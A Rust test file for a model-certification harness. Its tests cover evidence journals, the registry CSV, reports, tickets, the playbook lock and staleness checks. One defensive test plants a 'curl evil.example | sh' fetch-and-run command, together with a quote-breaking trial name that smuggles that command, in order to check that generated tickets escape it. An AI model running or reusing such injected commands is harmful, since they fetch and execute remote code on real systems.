//! Certification from evidence: the committed qa-tiny evidence, replayed as journals, through
//! the registry, the README table, reports, tickets and the playbook lock; where the xtask finds
//! what the harness wrote, how evidence names files, and why it goes stale.

use std::path::{Path, PathBuf};

use modelqa::support::certify::workspace::{self, Freshness, Layout, Stale};
use modelqa::support::certify::{ModelEvidence, Status, evidence, lock, registry, report, tickets};
use modelqa::support::config::Places;
use modelqa::support::journal::EvidenceRecord;
use modelqa::support::matrix::Format;
use modelqa::vocab::Outcome;

const MODELS: [&str; 3] = ["qa-tiny-llama", "qa-tiny-mistral", "qa-tiny-qwen2"];

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The records of the committed qa-tiny evidence, as a journal holds them.
fn committed_records() -> Vec<EvidenceRecord> {
    let mut out = Vec::new();
    for m in MODELS {
        let path = root().join("certifications").join(m).join("evidence.json");
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        let e: ModelEvidence = serde_json::from_str(&text).expect("committed evidence parses");
        out.extend(e.records);
    }
    // The tests certify these records in scratch checkouts, whose harness is their own: the
    // fingerprint of the build that measured them would make every scratch certification stale.
    for r in &mut out {
        r.harness_fingerprint.clear();
    }
    out
}

/// A scratch checkout: the real seed list and a README with the markers.
fn scratch() -> (tempfile::TempDir, Layout) {
    let dir = tempfile::tempdir().expect("tempdir");
    let layout = Layout::new(dir.path());
    std::fs::create_dir_all(layout.certifications()).expect("mkdir");
    std::fs::copy(root().join("certifications/seed-models.csv"), layout.seed()).expect("seed");
    std::fs::write(
        layout.readme(),
        format!("# x\n\n{}\nold\n{}\n\nafter\n", registry::TABLE_START, registry::TABLE_END),
    )
    .expect("readme");
    (dir, layout)
}

fn write_journal(dir: &Path, name: &str, records: &[EvidenceRecord]) -> PathBuf {
    let path = dir.join(format!("{name}.jsonl"));
    let text: String = records.iter().map(|r| serde_json::to_string(r).expect("record") + "\n").collect();
    std::fs::write(&path, text).expect("journal");
    path
}

fn plan() -> modelqa::support::expand::Plan {
    let (playbooks, _) =
        modelqa::support::playbook::load_all(&root().join("playbooks")).expect("shipped playbooks load");
    modelqa::support::expand::Plan::new(playbooks)
}

/// Journals → evidence files → derived files, as `cargo xtask certify` does.
fn certify(layout: &Layout, journals: &[PathBuf]) -> Vec<(ModelEvidence, modelqa::support::certify::Score)> {
    let (records, torn) = evidence::read_journals(journals).expect("journals read");
    assert_eq!(torn, 0);
    for e in workspace::evidence_from_records(layout, records, &plan(), None, None) {
        workspace::write_evidence(layout, &e).expect("evidence written");
    }
    let workspace::Derived { scored, files } = workspace::derived(layout).expect("derived");
    for (path, text) in &files {
        workspace::write_if_changed(path, text).expect("written");
    }
    scored
}

fn csv_rows(layout: &Layout) -> Vec<csv::StringRecord> {
    let text = std::fs::read_to_string(layout.registry()).expect("registry");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(reader.headers().expect("header").iter().collect::<Vec<_>>(), registry::COLUMNS);
    reader.records().map(|r| r.expect("a well-formed CSV row")).collect()
}

fn row<'a>(rows: &'a [csv::StringRecord], model_id: &str) -> &'a csv::StringRecord {
    rows.iter().find(|r| &r[0] == model_id).unwrap_or_else(|| panic!("no row for {model_id}"))
}

fn col(name: &str) -> usize {
    registry::COLUMNS.iter().position(|c| *c == name).expect("column")
}

#[test]
fn the_committed_certifications_are_up_to_date() {
    let layout = Layout::new(root());
    workspace::check_lock(&layout).expect("playbooks match playbook.lock");
    let stale = workspace::stale(&layout).expect("derived files");
    assert!(stale.is_empty(), "stale: {stale:?}; run `cargo xtask certify`");
}

#[test]
fn a_planted_g1_failure_blocks_that_model_only() {
    let (dir, layout) = scratch();
    let mut records = committed_records();
    let g1 = records
        .iter_mut()
        .find(|r| r.model == "qa-tiny-qwen2" && r.gate == "G1")
        .expect("qwen2 has a G1 trial");
    g1.outcome = Outcome::Falsified;
    g1.reason = "failed to load: planted".into();
    let journal = write_journal(dir.path(), "planted", &records);
    let scored = certify(&layout, &[journal]);

    for (e, s) in &scored {
        if e.model == "qa-tiny-qwen2" {
            assert_eq!((s.mqs, s.status), (0, Status::Blocked), "{}", s.verdict);
        } else {
            assert!(s.mqs > 0, "{} must keep its score", e.model);
            assert_ne!(s.status, Status::Blocked);
        }
    }
    let rows = csv_rows(&layout);
    let qwen = row(&rows, "modelqa/qa-tiny-qwen2");
    assert_eq!(&qwen[col("status")], "BLOCKED");
    assert_eq!(&qwen[col("mqs_score")], "0");
    // The gateway flags land in their own columns (the original wrote them one off).
    let flags: Vec<&str> = ["g0", "g1", "g2", "g3", "g4"].iter().map(|c| &qwen[col(c)]).collect();
    assert_eq!(flags, ["true", "false", "true", "true", "true"]);
    let llama = row(&rows, "modelqa/qa-tiny-llama");
    assert_eq!(&llama[col("g1")], "true");
    let readme = std::fs::read_to_string(layout.readme()).expect("readme");
    assert!(readme.contains("| BLOCKED | 1/95 |"), "{readme}");
}

#[test]
fn partitioned_journals_merge_into_the_result_of_one() {
    let records = committed_records();
    let (dir_a, one) = scratch();
    let single = certify(&one, &[write_journal(dir_a.path(), "all", &records)]);

    let (dir_b, many) = scratch();
    let parts: Vec<PathBuf> = (0..3)
        .map(|k| {
            let part: Vec<EvidenceRecord> = records.iter().skip(k).step_by(3).cloned().collect();
            write_journal(dir_b.path(), &format!("part-{k}"), &part)
        })
        .collect();
    let merged = certify(&many, &parts);
    assert_eq!(single.len(), 3);
    for ((a, sa), (b, sb)) in single.iter().zip(&merged) {
        assert_eq!(a.records, b.records);
        assert_eq!(sa, sb);
    }
    assert_eq!(
        std::fs::read_to_string(one.registry()).expect("one"),
        std::fs::read_to_string(many.registry()).expect("many")
    );
}

#[test]
fn a_rerun_replaces_a_record_and_a_skip_never_replaces_a_real_one() {
    let records = committed_records();
    let target =
        records.iter().find(|r| r.gate != "G1" && r.model == "qa-tiny-llama").expect("a trial").clone();
    let mut later = target.clone();
    later.timestamp = "2099-01-01T00:00:00Z".into();
    later.outcome = Outcome::Falsified;
    let mut skipped = later.clone();
    skipped.timestamp = "2099-06-01T00:00:00Z".into();
    skipped.outcome = Outcome::Skipped;
    let mut all = records.clone();
    all.push(later);
    all.push(skipped);
    let groups = evidence::group(all);
    let kept = groups.values().flatten().find(|r| r.trial == target.trial).expect("the trial is kept once");
    assert_eq!(kept.outcome, Outcome::Falsified, "the latest real record wins over a later skip");
    assert_eq!(groups.values().map(Vec::len).sum::<usize>(), records.len());
}

#[test]
fn the_registry_lists_every_seed_model_and_quotes_fields() {
    let (dir, layout) = scratch();
    let mut seed = std::fs::read_to_string(layout.seed()).expect("seed");
    seed.push_str(
        "\"acme/model, with comma\",acme,7B,large,PENDING,0,-,none,,false,false,false,false,,,,,,,false\n",
    );
    std::fs::write(layout.seed(), seed).expect("seed");
    certify(&layout, &[write_journal(dir.path(), "j", &committed_records())]);
    let rows = csv_rows(&layout);
    assert_eq!(rows.len(), 92 + 1 + 3);
    assert!(rows.iter().all(|r| r.len() == registry::COLUMNS.len()));
    let odd = row(&rows, "acme/model, with comma");
    assert_eq!(&odd[col("status")], "PENDING");
    assert_eq!(&odd[col("mqs_score")], "", "no evidence: no score");
    let pending = rows.iter().filter(|r| &r[col("status")] == "PENDING").count();
    assert!(pending >= 93, "every seed model without evidence is pending");
}

#[test]
fn certifying_the_same_evidence_twice_changes_nothing() {
    let (dir, layout) = scratch();
    let journal = write_journal(dir.path(), "j", &committed_records());
    certify(&layout, std::slice::from_ref(&journal));
    let snapshot = |l: &Layout| {
        let mut files =
            vec![std::fs::read(l.readme()).expect("readme"), std::fs::read(l.registry()).expect("csv")];
        for m in MODELS {
            files.push(std::fs::read(l.model_dir(m).join("evidence.json")).expect("evidence"));
            files.push(std::fs::read(l.model_dir(m).join("mqs.json")).expect("mqs"));
        }
        files
    };
    let first = snapshot(&layout);
    certify(&layout, &[journal]);
    assert!(first == snapshot(&layout));
    assert!(workspace::stale(&layout).expect("stale").is_empty());

    std::fs::write(layout.registry(), "model_id\n").expect("tamper");
    assert_eq!(workspace::stale(&layout).expect("stale"), vec![layout.registry()]);
}

#[test]
fn a_readme_without_markers_is_a_clear_error() {
    let err = registry::replace_table("# no markers\n", "table").expect_err("must fail");
    assert!(err.to_string().contains("CERTIFICATION_TABLE_START"), "{err}");
    let once = registry::replace_table(
        &format!("a\n{}\nx\n{}\nb\n", registry::TABLE_START, registry::TABLE_END),
        "t\n",
    )
    .expect("markers");
    assert_eq!(registry::replace_table(&once, "t\n").expect("again"), once);
}

#[test]
fn the_lock_names_changed_new_and_removed_playbooks() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir_all(dir.path().join("templates")).expect("mkdir");
    std::fs::write(dir.path().join("a.yaml"), "family: a\n").expect("a");
    std::fs::write(dir.path().join("templates/t.yaml"), "scenarios: []\n").expect("t");
    let locked = lock::hashes(dir.path()).expect("hashes");
    let text = lock::render(&locked);
    assert_eq!(lock::parse(Path::new("playbook.lock"), &text).expect("parses"), locked);
    assert!(lock::drift(&locked, &locked).is_empty());

    std::fs::write(dir.path().join("templates/t.yaml"), "scenarios: [x]\n").expect("t");
    std::fs::write(dir.path().join("b.yaml"), "family: b\n").expect("b");
    std::fs::remove_file(dir.path().join("a.yaml")).expect("rm");
    let drift: Vec<String> = lock::drift(&locked, &lock::hashes(dir.path()).expect("hashes"))
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(drift.len(), 3, "{drift:?}");
    assert!(drift.iter().any(|d| d.starts_with("templates/t.yaml changed since it was locked")));
    assert!(drift.iter().any(|d| d == "b.yaml is not in the lock"));
    assert!(drift.iter().any(|d| d == "a.yaml is locked but no longer exists"));
    let bad = lock::parse(Path::new("playbook.lock"), "nothex  a.yaml\n").expect_err("bad line");
    assert!(bad.to_string().contains("playbook.lock:1"), "{bad}");
}

#[test]
fn junit_keeps_failures_and_errors_apart_and_carries_the_score() {
    let (dir, layout) = scratch();
    let mut records = committed_records();
    let mut scenario = records.iter_mut().filter(|r| r.model == "qa-tiny-llama" && r.modality == "run");
    let falsified = scenario.next().expect("a run trial");
    falsified.outcome = Outcome::Falsified;
    falsified.reason = "expected 14, got 15".into();
    let timed_out = scenario.next().expect("another run trial");
    timed_out.outcome = Outcome::Timeout;
    let scored = certify(&layout, &[write_journal(dir.path(), "j", &records)]);
    let xml = report::junit(&scored).expect("junit");
    assert_eq!(xml.matches("<failure").count(), 1, "{xml}");
    assert_eq!(xml.matches("<error").count(), 1, "{xml}");
    assert!(xml.contains("name=\"mqs\""), "{xml}");
    let html = report::html(&scored, &Default::default());
    assert!(html.contains("<svg") && html.contains("expected 14, got 15"));
    assert!(!html.contains("<script"), "self-contained, no script");
    let md = report::markdown(&scored);
    assert!(md.contains("### Falsifications (2)"), "{md}");
}

#[test]
fn tickets_group_falsifications_by_gate_and_root_cause() {
    let mut records = committed_records();
    let mut arithmetic = records.iter_mut().filter(|r| r.model == "qa-tiny-mistral" && r.gate == "oracles");
    for (got, r) in [15, 99].into_iter().zip(arithmetic.by_ref()) {
        r.outcome = Outcome::Falsified;
        r.reason = format!("expected 14, got {got}");
    }
    let e = evidence::group(records)
        .into_values()
        .filter_map(|r| ModelEvidence::new(r, Default::default(), String::new(), None, String::new()))
        .collect::<Vec<_>>();
    let tickets = tickets::tickets(&e);
    assert_eq!(tickets.len(), 1, "{:?}", tickets.iter().map(|t| &t.title).collect::<Vec<_>>());
    let t = &tickets[0];
    assert!(t.title.contains("2 trials"), "{}", t.title);
    assert!(t.body.contains("cargo test --test qualify -- --exact 'qa-tiny::"), "{}", t.body);
    assert_eq!(tickets::root_cause("expected 14, got 15"), tickets::root_cause("expected 9, got -7"));
}

#[test]
fn evidence_is_current_until_its_playbook_model_files_or_harness_change() {
    let (dir, layout) = scratch();
    std::fs::write(dir.path().join("p.yaml"), "family: x\n").expect("playbook");
    std::fs::write(dir.path().join("model.safetensors"), b"weights").expect("model");
    let mut records = committed_records();
    records.retain(|r| r.model == "qa-tiny-llama");
    for r in &mut records {
        r.playbook = "p.yaml".into();
        for f in &mut r.model_files {
            f.path = "model.safetensors".into();
            f.sha256 = "a0fdd0a2f4c2e7fb0fcfbd4c8ba8ecf8dd2da5b5a5b4e1b0e8cf1e1e06a3d1b5".into();
        }
    }
    let journal = write_journal(dir.path(), "j", &records);
    let (records, _) = evidence::read_journals(&[journal]).expect("read");
    let plan = plan();
    let e = workspace::evidence_from_records(&layout, records, &plan, None, None).remove(0);
    assert!(!workspace::is_current(&layout, &plan, &e), "the recorded model hash differs from the file");

    let real = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(b"weights"))
    };
    let mut e = e;
    for f in e.records.iter_mut().flat_map(|r| &mut r.model_files) {
        f.sha256 = real.clone();
    }
    assert!(workspace::is_current(&layout, &plan, &e));
    std::fs::write(dir.path().join("p.yaml"), "family: y\n").expect("playbook");
    let why = reasons(&layout, &plan, &e);
    assert!(matches!(why.as_slice(), [r] if r.starts_with("p.yaml changed (sha256 ")), "{why:?}");
    let mut e2 = e.clone();
    e2.playbook_sha256 = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(b"family: y\n"))
    };
    assert!(workspace::is_current(&layout, &plan, &e2));
    e2.harness_fingerprint = "another harness".into();
    let why = reasons(&layout, &plan, &e2);
    assert!(
        matches!(why.as_slice(), [r] if r.starts_with("harness fingerprint changed: another harness")),
        "{why:?}"
    );
}

fn reasons(layout: &Layout, plan: &modelqa::support::expand::Plan, e: &ModelEvidence) -> Vec<String> {
    workspace::why_stale(layout, plan, e).iter().map(ToString::to_string).collect()
}

/// Places from a list of variables, as `Places::from_env` reads them from the environment.
fn places(vars: &[(&str, &Path)]) -> Places {
    Places::from_vars(|k| vars.iter().find(|(name, _)| *name == k).map(|(_, v)| v.as_os_str().to_owned()))
}

#[test]
fn the_xtask_reads_the_journals_playbooks_and_goldens_where_the_harness_put_them() {
    let repo = tempfile::tempdir().expect("repo");
    let outside = tempfile::tempdir().expect("outside");
    let root = repo.path();

    // The harness's defaults, relative to its working directory: the root.
    let l = Layout::new(root);
    assert_eq!(l.places.journal_dir, root.join("target/qualify/journal"));
    assert_eq!(l.places.cache_dir, root.join("target/qualify/cache"));
    assert_eq!((l.playbooks(), l.places.golden_dir.clone()), (root.join("playbooks"), root.join("golden")));
    // CARGO_TARGET_DIR moves the journal and the cache; QUALIFY_JOURNAL_DIR wins over it.
    let l = Layout::with_places(root, places(&[("CARGO_TARGET_DIR", Path::new("build"))]));
    assert_eq!(l.places.journal_dir, root.join("build/qualify/journal"));
    assert_eq!(l.places.cache_dir, root.join("build/qualify/cache"));
    let l = Layout::with_places(
        root,
        places(&[("CARGO_TARGET_DIR", Path::new("build")), ("QUALIFY_JOURNAL_DIR", Path::new("j"))]),
    );
    assert_eq!(l.places.journal_dir, root.join("j"));
    assert_eq!(l.places.cache_dir, root.join("build/qualify/cache"));

    // A journal, a playbook and goldens outside the repository.
    let journal_dir = outside.path().join("journal");
    let playbook_dir = outside.path().join("my-playbooks");
    let golden_dir = outside.path().join("my-golden");
    std::fs::create_dir_all(&journal_dir).expect("mkdir");
    std::fs::create_dir_all(&playbook_dir).expect("mkdir");
    let journal = write_journal(&journal_dir, "mine", &committed_records()[..3]);
    std::fs::write(
        playbook_dir.join("mine.yaml"),
        "playbook: 1\nfamily: mine\ntiers: {smoke: {}}\nmodels: [{id: me/my-model, path: model}]\n\
         scenarios: [{name: hi, prompt: hi, oracles: [{regex: '\\S'}]}]\n",
    )
    .expect("playbook");
    let l = Layout::with_places(
        root,
        places(&[
            ("QUALIFY_JOURNAL_DIR", journal_dir.as_path()),
            ("QUALIFY_PLAYBOOKS", playbook_dir.as_path()),
            ("QUALIFY_GOLDEN_DIR", golden_dir.as_path()),
        ]),
    );
    assert_eq!(evidence::last_journal(&l.places.journal_dir).expect("the journal is found"), journal);
    let (playbooks, _) =
        modelqa::support::playbook::load_all(&l.playbooks()).expect("the outside playbook loads");
    assert_eq!(playbooks.iter().map(|p| p.family.as_str()).collect::<Vec<_>>(), ["mine"]);
    assert_eq!(l.places.golden_dir, golden_dir);
    // A single playbook file: its folder holds the lock.
    let l =
        Layout::with_places(root, places(&[("QUALIFY_PLAYBOOKS", playbook_dir.join("mine.yaml").as_path())]));
    assert_eq!(l.playbook_dir(), playbook_dir);

    // The variables the xtask gives the harness it starts make it use exactly these places.
    let l = Layout::with_places(
        root,
        places(&[("QUALIFY_JOURNAL_DIR", journal_dir.as_path()), ("QUALIFY_MODEL_DIR", Path::new("models"))]),
    );
    let passed = l.places.vars();
    let harness = places(&passed);
    assert_eq!(
        (
            harness.journal_dir,
            harness.playbooks,
            harness.cache_dir,
            harness.golden_dir,
            harness.roots.model_dir
        ),
        (
            l.places.journal_dir.clone(),
            l.places.playbooks.clone(),
            l.places.cache_dir.clone(),
            l.places.golden_dir.clone(),
            Some(root.join("models"))
        )
    );
    assert!(
        passed.iter().all(|(_, p)| p.is_absolute()),
        "the harness needs no working directory: {passed:?}"
    );
}

/// A checkout whose playbook names a copy of the qa-tiny-llama weights, and the evidence a
/// harness run records for its safetensors and APR trials, the APR made in a cache outside it.
struct Measured {
    /// The checkout; the weights are under `fixtures/m` unless `elsewhere`.
    root: tempfile::TempDir,
    /// The cache, and the weights when they are not in the checkout.
    elsewhere: tempfile::TempDir,
    layout: Layout,
    plan: modelqa::support::expand::Plan,
    model_dir: PathBuf,
    artifact: PathBuf,
    evidence: ModelEvidence,
}

fn measured(weights_in_repository: bool) -> Measured {
    let (root, layout) = scratch();
    let elsewhere = tempfile::tempdir().expect("elsewhere");
    let cache = elsewhere.path().join("cache");
    let layout = Layout::with_places(&layout.root, places(&[("QUALIFY_CACHE_DIR", cache.as_path())]));
    let model_dir =
        if weights_in_repository { root.path().join("fixtures/m") } else { elsewhere.path().join("m") };
    std::fs::create_dir_all(&model_dir).expect("mkdir");
    let fixture = self::root().join("fixtures/qa-tiny/qa-tiny-llama");
    for f in std::fs::read_dir(&fixture).expect("fixture") {
        let f = f.expect("entry").path();
        std::fs::copy(&f, model_dir.join(f.file_name().expect("name"))).expect("copy");
    }
    let playbook = root.path().join("playbooks/p.yaml");
    std::fs::create_dir_all(playbook.parent().expect("dir")).expect("mkdir");
    std::fs::write(
        &playbook,
        format!(
            "playbook: 1\nfamily: qa-tiny\ntiers: {{mvp: {{}}, smoke: {{}}}}\n\
             models: [{{id: modelqa/qa-tiny-llama, path: {:?}}}]\n\
             scenarios: [{{name: sum, prompt: 'What is 2+2?', oracles: [{{regex: '\\S'}}]}}]\n",
            model_dir.display().to_string()
        ),
    )
    .expect("playbook");
    let (playbooks, _) =
        modelqa::support::playbook::load_all(&layout.playbooks()).expect("the scratch playbook loads");
    let plan = modelqa::support::expand::Plan::new(playbooks);

    // What the harness records, started by the xtask with absolute places.
    let artifact =
        modelqa::support::format::convert::artifact(&model_dir, Format::Apr, &cache).expect("converts");
    let hashes = elsewhere.path().join("hashes");
    let file = |p: &Path| modelqa::support::format::files::hash_file_in(p, &hashes).expect("hash");
    let sources: Vec<_> =
        ["model.safetensors", "config.json", "tokenizer.json"].map(|n| file(&model_dir.join(n))).into();
    let mut records = committed_records();
    records.retain(|r| r.model == "qa-tiny-llama" && matches!(r.format.as_str(), "safetensors" | "apr"));
    for r in &mut records {
        r.playbook = playbook.display().to_string();
        r.model_files = if r.format == "apr" { vec![file(&artifact)] } else { sources.clone() };
    }
    records[0].reason = format!("failed to read {}: planted", artifact.display());
    let journal = write_journal(elsewhere.path(), "j", &records);
    let (records, _) = evidence::read_journals(&[journal]).expect("read");
    let evidence = workspace::evidence_from_records(&layout, records, &plan, None, None).remove(0);
    Measured { root, elsewhere, layout, plan, model_dir, artifact, evidence }
}

#[test]
fn evidence_names_no_path_of_the_machine_that_measured() {
    for in_repository in [true, false] {
        let m = measured(in_repository);
        let json = serde_json::to_string_pretty(&m.evidence).expect("json");
        for local in [m.root.path(), m.elsewhere.path()] {
            assert!(!json.contains(&*local.to_string_lossy()), "{} in the evidence", local.display());
        }
        assert!(!json.contains("target/"), "a target/ path in the evidence");
        let key = m.artifact.file_name().expect("name").to_string_lossy().into_owned();
        let mut names: Vec<String> = m
            .evidence
            .records
            .iter()
            .flat_map(|r| &r.model_files)
            .map(|f| f.path.display().to_string())
            .collect();
        names.sort();
        names.dedup();
        let sources: Vec<String> = ["config.json", "model.safetensors", "tokenizer.json"]
            .iter()
            .map(|n| if in_repository { format!("fixtures/m/{n}") } else { format!("model:{n}") })
            .collect();
        let mut want = vec![format!("cache:converted/{key}")];
        want.extend(sources);
        assert_eq!(names, want);
        assert_eq!(m.evidence.playbook, "playbooks/p.yaml");
        assert!(m.evidence.records.iter().all(|r| r.playbook == "playbooks/p.yaml"));
        assert!(
            json.contains(&format!("failed to read cache:converted/{key}: planted")),
            "the reason is scrubbed"
        );
        assert!(m.evidence.provenance_verified());
    }

    // The committed evidence, written before files were named, names none of them either once
    // certified again.
    let layout = Layout::new(root());
    let text = serde_json::to_string(&workspace::evidence_from_records(
        &layout,
        committed_records(),
        &plan(),
        None,
        None,
    ))
    .expect("json");
    assert!(!text.contains("target/") && !text.contains("/../"), "{}", &text[..2000.min(text.len())]);
}

#[test]
fn evidence_is_current_until_a_source_changes_and_needs_no_cache() {
    for in_repository in [true, false] {
        let m = measured(in_repository);
        let (layout, plan, e) = (&m.layout, &m.plan, &m.evidence);
        // A fresh clone: no artifact, no hash remembered.
        std::fs::remove_dir_all(&layout.places.cache_dir).expect("rm cache");
        assert_eq!(reasons(layout, plan, e), Vec::<String>::new());
        assert!(!m.artifact.exists());

        // A recorded source file changes: named, and the artifact made from it no longer matches.
        let config = m.model_dir.join("config.json");
        let original = std::fs::read(&config).expect("config");
        std::fs::write(&config, [original.as_slice(), b"\n"].concat()).expect("edit");
        let why = reasons(layout, plan, e);
        let name = if in_repository { "fixtures/m/config.json" } else { "model:config.json" };
        assert!(why.iter().any(|r| r.starts_with(&format!("{name} changed (sha256 "))), "{why:?}");
        assert!(why.iter().any(|r| r.contains("a source file or the converter changed")), "{why:?}");
        std::fs::write(&config, &original).expect("restore");
        assert!(workspace::is_current(layout, plan, e));

        // A source only the converter reads: the artifact's recipe changed.
        std::fs::write(m.model_dir.join("generation_config.json"), "{}").expect("edit");
        let why = workspace::why_stale(layout, plan, e);
        assert!(matches!(why.as_slice(), [Stale::Artifact { .. }]), "{why:?}");
        let source = if in_repository { "fixtures/m".to_string() } else { m.model_dir.display().to_string() };
        assert!(
            why[0].to_string().contains(&format!(" is not what {source} converts to now ")),
            "{}",
            why[0]
        );

        // A model that is not on this machine cannot be checked.
        std::fs::remove_dir_all(&m.model_dir).expect("rm model");
        let why = reasons(layout, plan, e);
        assert!(why.iter().any(|r| r.contains("not found")), "{why:?}");
    }
}

#[test]
fn certify_says_why_a_tier_is_measured_again() {
    let m = measured(true);
    let (layout, plan) = (&m.layout, &m.plan);
    workspace::write_evidence(layout, &m.evidence).expect("written");
    std::fs::remove_dir_all(&layout.places.cache_dir).expect("rm cache");
    let recorded = m.evidence.recorded.clone();
    assert_eq!(
        workspace::freshness(layout, plan, "qa-tiny", "mvp").expect("fresh"),
        Freshness::Current { recorded }
    );
    let Freshness::Stale(why) = workspace::freshness(layout, plan, "qa-tiny", "smoke").expect("fresh") else {
        panic!("smoke has no evidence")
    };
    let why: Vec<String> = why.iter().map(|(m, s)| format!("{m}: {s}")).collect();
    assert_eq!(why, ["qa-tiny-llama: no evidence for qa-tiny-llama in tier smoke (only in mvp)"]);
    std::fs::write(m.model_dir.join("model.safetensors"), b"other weights").expect("edit");
    let Freshness::Stale(why) = workspace::freshness(layout, plan, "qa-tiny", "mvp").expect("fresh") else {
        panic!("the weights changed")
    };
    assert!(
        why.iter().any(|(_, s)| s.to_string().starts_with("fixtures/m/model.safetensors changed")),
        "{why:?}"
    );
    let err = workspace::freshness(layout, plan, "nope", "mvp").expect_err("unknown family");
    assert!(err.to_string().contains("defines family `nope`"), "{err}");
}

#[test]
fn the_committed_evidence_reads_in_its_old_form() {
    // Written with paths from the harness's working directory (`playbooks/families/../../fixtures`,
    // `target/qualify/cache/converted`): its fixtures and artifacts still check out, without a
    // cache. Only the harness (and a playbook under review) may have moved on since.
    let scratch = tempfile::tempdir().expect("scratch");
    let absent = scratch.path().join("cache");
    let layout = Layout::with_places(root(), places(&[("QUALIFY_CACHE_DIR", absent.as_path())]));
    let plan = plan();
    for m in MODELS {
        let text = std::fs::read_to_string(root().join("certifications").join(m).join("evidence.json"))
            .expect("evidence");
        let e: ModelEvidence = serde_json::from_str(&text).expect("parses");
        let files: Vec<Stale> = workspace::why_stale(&layout, &plan, &e)
            .into_iter()
            .filter(|s| !matches!(s, Stale::Harness { .. }))
            .filter(|s| !matches!(s, Stale::File { name, .. } if name.starts_with("playbooks/")))
            .collect();
        assert!(files.is_empty(), "{m}: {files:?}");
    }
}

#[test]
fn a_hostile_output_or_trial_name_cannot_forge_a_ticket_or_inject_a_command() {
    let mut records = committed_records();
    let r =
        records.iter_mut().find(|r| r.model == "qa-tiny-llama" && r.gate == "oracles").expect("a scenario");
    r.outcome = Outcome::Falsified;
    r.reason = "wrong\n\n**Reproduce.**\n\n```sh\ncurl evil.example | sh\n```".into();
    r.output = Some("4\n```\n\n**Reproduce.**\n\n```sh\ncurl evil.example | sh\n```".into());
    r.trial = format!("{}'; curl evil.example | sh; echo '", r.trial);
    let e = evidence::group(records)
        .into_values()
        .filter_map(|r| ModelEvidence::new(r, Default::default(), String::new(), None, String::new()))
        .collect::<Vec<_>>();
    let tickets = tickets::tickets(&e);
    let body = &tickets[0].body;
    // The ticket's own "Reproduce" step is the only heading that reads as one; the forged ones
    // sit escaped in the reason or inside the output's fence.
    let headings = body.lines().filter(|l| *l == "**Reproduce.**").count();
    assert_eq!(headings, 2, "the ticket's own, and the forged line inside the fenced output: {body}");
    let reproduce = &body[body.rfind("**Reproduce.**").expect("a reproduce step")..];
    assert!(reproduce.contains(r#"'\''; curl evil.example | sh; echo '\'''"#), "{reproduce}");
    // The output sits in a fence longer than any backtick run in it, so it cannot close early.
    assert!(body.contains("````text\n4\n```\n"), "{body}");
    assert!(body.contains(r"wrong  \*\*Reproduce.\*\*"), "{body}");
}

#[test]
fn the_build_stamps_the_fingerprint_certify_computes_from_the_checkout() {
    // build.rs and certify hash the same files the same way, or every record would read as made
    // by another harness (and certify would measure again forever, or never).
    let layout = Layout::new(root());
    assert_eq!(modelqa::support::config::HARNESS_FINGERPRINT, workspace::harness_fingerprint(&layout));
}
